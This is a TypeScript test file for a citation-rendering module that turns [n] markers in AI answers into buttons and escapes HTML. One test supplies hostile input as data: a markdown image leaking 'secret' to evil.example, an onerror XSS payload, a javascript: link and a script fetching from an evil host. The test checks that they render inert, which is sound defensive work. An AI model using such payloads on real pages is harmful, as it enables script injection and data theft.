import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { orderCitations } from '../../core/protocol/citation-order.ts';
import { escapeHtml, renderAnswerHtml, splitAnswer } from '../../web/src/answer-text.ts';

describe('answer text rendering', () => {
  const known = new Set([1, 2]);

  it('turns known [n] markers into citation buttons and keeps the words around them', () => {
    assert.equal(
      renderAnswerHtml('The school reopened [1] after the flood [2].', known),
      'The school reopened <button type="button" class="cite" data-n="1">1</button> after the flood <button type="button" class="cite" data-n="2">2</button>.',
    );
  });

  it('leaves a marker that points at no citation as the text the model wrote', () => {
    assert.equal(renderAnswerHtml('Invented [7] and [1]', known), 'Invented [7] and <button type="button" class="cite" data-n="1">1</button>');
  });

  it('renders a markdown image, a link and HTML from a document or a model as inert text', () => {
    const hostile = '![x](http://evil.example/p.png?q=secret) <img src=x onerror=alert(1)> <a href="javascript:x">y</a> <script>fetch("//evil")</script>';
    const html = renderAnswerHtml(hostile, known);
    assert.doesNotMatch(html, /<img|<a |<script/);
    assert.match(html, /&lt;img src=x onerror=alert\(1\)&gt;/);
    assert.match(html, /!\[x\]\(http:\/\/evil\.example\/p\.png\?q=secret\)/, 'the markdown stays visible as characters');
    assert.match(html, /&lt;a href=&quot;javascript:x&quot;&gt;/);
  });

  it('makes line breaks the only other markup', () => {
    assert.equal(renderAnswerHtml('one\ntwo\n\nthree', known), 'one<br>two<br><br>three');
    assert.deepEqual(splitAnswer('a [1]\nb', known), [
      { type: 'text', text: 'a ' },
      { type: 'cite', n: 1, shown: 1 },
      { type: 'break' },
      { type: 'text', text: 'b' },
    ]);
  });

  it('numbers citations 1..n in the order the answer uses them, keeping the passage number for opening', () => {
    const cited = new Set([2, 3, 4]);
    assert.equal(
      renderAnswerHtml('Found [3], then [2] and again [3]; also [4].', cited),
      'Found <button type="button" class="cite" data-n="3">1</button>, then <button type="button" class="cite" data-n="2">2</button> and again <button type="button" class="cite" data-n="3">1</button>; also <button type="button" class="cite" data-n="4">3</button>.',
    );
  });

  it('splits a group [n, m] into one button per citation and keeps an unknown number as text', () => {
    assert.deepEqual(splitAnswer('x [2, 9, 1]', new Set([1, 2])), [
      { type: 'text', text: 'x ' },
      { type: 'cite', n: 2, shown: 1 },
      { type: 'cite', n: 1, shown: 2 },
      { type: 'text', text: '[9]' },
    ]);
  });

  it('orders cited numbers the text never writes after the ones it does', () => {
    assert.deepEqual([...orderCitations('only [5]', [5, 1, 3])], [[5, 1], [1, 2], [3, 3]]);
    assert.deepEqual([...orderCitations('[7] is dropped, [2] is not', [2])], [[2, 1]]);
  });

  it('does not let markers inside escaped text open an attribute', () => {
    assert.equal(escapeHtml(`"'<>&`), '&quot;&#39;&lt;&gt;&amp;');
    assert.equal(renderAnswerHtml('[1]"><b>', known), '<button type="button" class="cite" data-n="1">1</button>&quot;&gt;&lt;b&gt;');
  });
});
